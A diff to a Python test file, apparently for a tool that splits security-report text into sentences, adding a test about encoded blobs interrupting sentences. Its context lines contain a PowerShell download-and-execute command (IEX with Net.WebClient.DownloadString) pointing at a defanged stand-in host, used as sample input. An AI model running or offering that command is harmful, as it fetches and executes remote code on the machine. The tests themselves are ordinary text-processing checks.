@@ -106,6 +106,13 @@ def test_a_sentence_ends_where_a_blob_begins() -> None:
     assert all(one.ended for one in found)
 
 
+def test_a_sentence_that_goes_on_behind_a_blob_is_left_out() -> None:
+    blob = "QUJDQUJDQUJDQUJDQUJDQUJD… (1600 characters)"
+    told = f"It came by mail. The dropper stores {blob} in the registry. It targets banks now."
+    assert texts(told) == ["It came by mail.", "It targets banks now."]
+    assert texts(f"The dropper always stores {blob} in the registry of a host") == []
+
+
 def test_a_line_of_code_is_no_sentence_and_takes_none_along() -> None:
     code = "IEX (New-Object Net.WebClient).DownloadString('hxxp://print[.]evil[.]example/a.ps1')"
     text = f"It runs this line.\n{code}\nAnalysts should block the domain."
